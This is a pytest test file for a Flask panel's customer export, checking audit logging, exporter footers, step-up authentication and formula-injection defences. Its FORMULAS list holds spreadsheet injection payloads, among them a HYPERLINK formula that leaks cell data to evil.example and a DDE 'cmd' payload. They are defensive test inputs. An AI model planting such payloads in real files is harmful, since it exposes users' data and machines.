"""R19: what leaves the shop is harmless to open, asks who is there, is marked, and is told to the byte.

That a file reads back equal whatever stands in it: `tests/panel/importing/test_round_trip.py`.
"""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
import json
import re
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from app.core.clock import frozen_at, utc_now
from app.core.keys import encode_token
from app.journal.values import load
from app.panel.exporting import without_mark
from app.people.models import Customer
from tests.factories.people import make_customer, make_tag
from tests.journal.test_auditing import happenings
from tests.support.whole_house import FreshClient

LIST = "/people/customer/"
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
    "''@x",
    "=cmd|' /C calc'!A0",
)
# What spreadsheets take for the beginning of a formula.
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HALF_AN_HOUR = datetime.timedelta(minutes=29)


@pytest.fixture
def owner(app_on: Flask, sign_in: Any) -> FlaskClient:
    """The signed-in owner."""
    client: FlaskClient = sign_in(FreshClient(app_on))
    return client


@pytest.mark.parametrize("form", ["person", "machine"])
def test_no_cell_of_a_downloaded_file_begins_a_formula(owner: FlaskClient, form: str) -> None:
    for name in FORMULAS:
        make_customer(name=name, notes=name)

    text = owner.get(f"{LIST}export.csv?which=all&form={form}").data.decode("utf-8-sig")
    book = load_workbook(io.BytesIO(owner.get(f"{LIST}export.xlsx?which=all&form={form}").data))

    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert not [cell for row in rows for cell in row.values() if cell.startswith(BEGINNINGS)]
    heads = [str(cell.value) for cell in book.active[1]]
    name_at = heads.index("name" if form == "machine" else "Full name")
    assert {without_mark(row[heads[name_at]]) for row in rows} >= set(FORMULAS)
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}, "no cell is a formula"
    names = {str(row[name_at].value) for row in book.active.iter_rows(min_row=2)}
    # A text of a workbook for people runs as nothing, so it stands there as it is.
    assert (names if form == "person" else {without_mark(name) for name in names}) >= set(FORMULAS)


@pytest.mark.parametrize("kind", ["csv", "xlsx", "json"])
def test_an_export_is_one_entry_with_its_rows_and_the_digest_of_the_very_bytes(
    owner: FlaskClient, kind: str
) -> None:
    for number in range(3):
        make_customer(name=f"王{number}", source="referral")
    make_customer(name="李雷")

    answer = owner.get(f"{LIST}export.{kind}?f.source=referral&q=王")

    (entry,) = happenings("panel:export")
    facts = load(entry.after) or {}
    assert facts["rows"] == 3
    assert facts["sha256"] == hashlib.sha256(answer.data).hexdigest()
    assert facts["file"] == answer.headers["Content-Disposition"].removeprefix("attachment; filename=")
    assert re.fullmatch(rf"people-customer-[0-9a-f]{{10}}\.{kind}", facts["file"])
    assert int(answer.headers["Content-Length"]) == len(answer.data)
    assert (entry.actor_id, entry.address) != (None, "")
    assert "王" not in json.dumps(facts, ensure_ascii=False), "what was looked for may be a name"


def test_a_workbook_says_below_each_page_who_took_it_out(owner: FlaskClient) -> None:
    make_customer()

    book = load_workbook(io.BytesIO(owner.get(f"{LIST}export.xlsx").data))

    (entry,) = happenings("panel:export")
    number = (load(entry.after) or {})["file"].split("-")[-1].removesuffix(".xlsx")
    for line in (book.active.oddFooter.left.text, book.properties.description):
        assert number in line
        assert "毛球宠物" in line
        assert "Wang Fang" in line


def test_an_export_that_can_not_be_told_does_not_leave(
    owner: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_customer(name="王芳")

    def fail(*_arguments: Any) -> None:
        raise OSError("the journal's disk is full")

    monkeypatch.setattr("app.journal.listening.write", fail)
    answer = owner.get(f"{LIST}export.csv")

    assert answer.status_code >= 500
    assert "王芳" not in answer.text


FINAL = ("export", "export.csv", "export.xlsx", "export.json")


@pytest.mark.parametrize("address", FINAL)
def test_after_ten_minutes_an_export_asks_once_more_who_is_there(owner: FlaskClient, address: str) -> None:
    with frozen_at(utc_now() + HALF_AN_HOUR):
        answer = owner.get(f"{LIST}{address}")

    assert answer.status_code == 302
    assert answer.location.startswith("/step-up/?next=")
    assert happenings("panel:export") == []


def test_what_is_deleted_for_good_asks_once_more_who_is_there(owner: FlaskClient) -> None:
    made = make_customer()
    address = f"{LIST}{encode_token([made.id])}"
    assert owner.post(f"{address}/delete").status_code == 302

    with frozen_at(utc_now() + HALF_AN_HOUR):
        late = owner.post(f"{address}/purge")

    assert late.location.startswith("/step-up/")
    assert owner.get(address).status_code == 200
    assert owner.post(f"{address}/purge").location == f"{LIST}trash"
    assert owner.get(address).status_code == 404


def test_an_export_of_nothing_is_told_too(owner: FlaskClient) -> None:
    make_tag()

    owner.get(f"{LIST}export.csv")

    (entry,) = happenings("panel:export")
    assert (load(entry.after) or {})["rows"] == 0
    assert entry.subject == Customer.__tablename__
